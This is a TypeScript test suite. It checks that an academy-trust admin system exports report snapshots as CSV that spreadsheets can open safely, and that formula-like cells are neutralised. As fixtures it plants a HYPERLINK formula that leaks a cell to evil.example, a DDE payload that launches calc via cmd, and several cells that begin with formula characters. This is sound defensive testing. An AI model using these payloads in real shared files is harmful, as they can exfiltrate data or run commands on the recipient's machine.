import { waitUntil } from '@trust/testing';
import { REPORT_CSV_COLUMNS } from '../src/admin/reports/report-csv.js';
import { parseRfc4180, rawBody } from './test-support/raw-body.js';
import { registerAcademy, startTestApp, type TestApp } from './test-support/test-app.js';
import { tokenFor } from './test-support/tokens.js';

/*
 * Every report snapshot as a CSV a spreadsheet can open safely: a download with a meaningful name, a UTF-8
 * byte order mark, CRLF, the fixed columns of its type, flat cells (never JSON text), and no cell a spreadsheet
 * would run as a formula, even when what was recorded is one.
 */

const ACADEMY = '790001';
const PROVIDER = '790002';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Oak")';
const DDE = "=cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

interface Csv {
  headers: Record<string, string | undefined>;
  header: string[];
  records: Record<string, string>[];
  cells: string[];
}

describe('Report snapshots as CSV', () => {
  let api: TestApp;
  const now = new Date('2025-09-08T09:00:00.000Z');

  beforeAll(async () => {
    api = await startTestApp({ clock: () => now });
    await registerAcademy(api.server, ACADEMY, { name: FORMULA_NAME });
    await registerAcademy(api.server, PROVIDER);
    const director = api.as(await tokenFor({ sub: 'dee', name: 'Dee Director', roles: ['improvement-director'] }));
    const post = async (path: string, body: Record<string, unknown>): Promise<void> => {
      await director.post(path).send(body).expect(201);
    };
    await post(`/academies/${ACADEMY}/outcomes`, { academicYear: '2023/24', direction: 'positive' });
    await post(`/academies/${ACADEMY}/outcomes`, { academicYear: '2024/25', direction: 'positive' });
    await post(`/academies/${ACADEMY}/inspections`, {
      inspectedOn: '2024-11-06',
      framework: 'eif-2024',
      grades: { 'quality-of-education': 'good', 'behaviour-and-attitudes': 'outstanding', 'personal-development': 'good', 'leadership-and-management': 'good' },
    });
    await post(`/academies/${ACADEMY}/annual-reviews`, { academicYear: '2024/25', capacityToImprove: true, summary: '+Secure; -leadership' });
    await post(`/academies/${ACADEMY}/risk-assessments`, { assessedOn: '2025-07-01', level: 'low', risks: [{ title: DDE, owner: 'Headteacher' }] });
    await post(`/academies/${ACADEMY}/tier-decisions`, { academicYear: '2025/26', tier: 2, rationale: '@SUM(A1:A9) new headteacher' });
    await post('/recharges', { supportedAcademyId: ACADEMY, providerRole: 'teacher', providerAcademyId: PROVIDER, days: 1.5, deliveredOn: '2025-09-05', description: 'Phonics; =1+2' });
    await post(`/academies/${ACADEMY}/sip-assignments`, { sipId: 'sip-jane', name: 'Jane Doe', approvedOn: '2025-07-10' });
    await post(`/academies/${ACADEMY}/sip-visits`, { visitedOn: '2025-09-05', reportSummary: 'Phonics secure.' });
  }, 60_000);

  afterAll(async () => {
    await api.close();
  });

  async function csvOf(body: Record<string, unknown>): Promise<Csv> {
    await api.admin.get('/academies').query({ minPosition: (await api.head()).toString() }).expect(200);
    const { reportId } = (await api.admin.post('/admin/reports').send(body).expect(202)).body as { reportId: string };
    await waitUntil(async () => (await api.admin.get(`/admin/reports/${reportId}`)).status === 200, { timeoutMs: 20_000, message: 'the report to be built' });
    const response = await api.admin.get(`/admin/reports/${reportId}`).set('Accept', 'text/csv').buffer(true).parse(rawBody).expect(200);
    const bytes = response.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseRfc4180(bytes.subarray(3).toString('utf8'));
    const records = rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index] ?? ''])));
    return { headers: response.headers, header: header!, records, cells: rows.flat() };
  }

  function expectSafeAndFlat(csv: Csv, type: keyof typeof REPORT_CSV_COLUMNS, fileName: RegExp): void {
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="${fileName.source}"$`));
    expect(csv.headers['vary']).toContain('Accept');
    expect(csv.header).toEqual(REPORT_CSV_COLUMNS[type].map((column) => column.name));
    for (const record of csv.records) expect(Object.keys(record)).toHaveLength(csv.header.length);
    for (const cell of csv.cells) {
      expect(cell).not.toMatch(FORMULA_START);
      expect(cell).not.toMatch(/^[{[]/);
    }
  }

  it('academy cards', async () => {
    const csv = await csvOf({ type: 'academy-cards' });
    expectSafeAndFlat(csv, 'academy-cards', /academy-cards-as-of-\d+\.csv/);
    expect(csv.records.map((record) => [record['academyId'], record['name'], record['tier']])).toEqual([
      [ACADEMY, `'${FORMULA_NAME}`, '2'],
      [PROVIDER, `Academy ${PROVIDER}`, ''],
    ]);
  });

  it('tier decisions, with the evidence snapshot in named columns', async () => {
    const csv = await csvOf({ type: 'tier-decisions', academicYear: '2025/26' });
    expectSafeAndFlat(csv, 'tier-decisions', /tier-decisions-2025-26-as-of-\d+\.csv/);
    expect(csv.records).toHaveLength(1);
    expect(csv.records[0]).toMatchObject({
      academyId: ACADEMY,
      tier: '2',
      recommendedTier: '1',
      override: 'true',
      rationale: "'@SUM(A1:A9) new headteacher",
      decidedByUserId: 'dee',
      decidedByName: 'Dee Director',
      latestOutcomeYear: '2024/25',
      latestOutcome: 'positive',
      previousOutcomeYear: '2023/24',
      previousOutcome: 'positive',
      inspectionFramework: 'eif-2024',
      inspectionBehaviourAndAttitudes: 'outstanding',
      annualReviewSummary: "'+Secure; '-leadership",
      riskLevel: 'low',
      risks: `'${DDE} (Headteacher)`,
    });
  });

  it('the recharge ledger, in the columns of the ledger download', async () => {
    const csv = await csvOf({ type: 'recharge-ledger', academicYear: '2025/26', on: '2025-09-07' });
    expectSafeAndFlat(csv, 'recharge-ledger', /recharge-ledger-2025-26-on-2025-09-07-as-of-\d+\.csv/);
    expect(csv.records.map((record) => [record['academyId'], record['debitPence'], record['creditPence'], record['debitPounds'], record['description']])).toEqual([
      [ACADEMY, '37500', '0', '375.00', "Phonics; '=1+2"],
      [PROVIDER, '0', '37500', '0.00', "Phonics; '=1+2"],
    ]);
  });

  it('compliance, each requirement beside what was held', async () => {
    const csv = await csvOf({ type: 'compliance', academicYear: '2025/26' });
    expectSafeAndFlat(csv, 'compliance', /compliance-2025-26-as-of-\d+\.csv/);
    const ours = csv.records.find((record) => record['academyId'] === ACADEMY);
    expect(ours).toMatchObject({ academicYear: '2025/26', name: `'${FORMULA_NAME}`, tier: '2', sipVisitsRequired: '3', sipVisitsHeld: '1', reviewsCadence: 'annual', aimsExpected: '3', coreDaysEntitled: '6', supportLead: 'Academy Led' });
    expect(ours?.['trustSupport']).toMatch(/^[^{[].*; /);
  });

  it('answers JSON unless CSV is preferred', async () => {
    const { reportId } = (await api.admin.post('/admin/reports').send({ type: 'academy-cards' }).expect(202)).body as { reportId: string };
    await waitUntil(async () => (await api.admin.get(`/admin/reports/${reportId}`)).status === 200, { timeoutMs: 20_000, message: 'the report to be built' });
    for (const accept of ['application/json', '*/*', 'text/csv;q=0.5, application/json']) {
      const response = await api.admin.get(`/admin/reports/${reportId}`).set('Accept', accept).expect(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.headers['vary']).toContain('Accept');
    }
  });

  it('the ledger download is written by the same writer: every cell quoted, the academy in its name when it is one academy\'s', async () => {
    const finance = api.as(await tokenFor({ roles: ['finance'] }));
    const response = await finance.get('/finance/ledger').query({ academicYear: '2025/26', academyId: ACADEMY }).set('Accept', 'text/csv').buffer(true).parse(rawBody).expect(200);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="recharge-ledger-2025-26-${ACADEMY}.csv"`);
    const text = (response.body as Buffer).subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe('"rechargeId","date","academicYear","account","academyId","academyName","debitPence","creditPence","debitPounds","creditPounds","description","position"');
  });
});
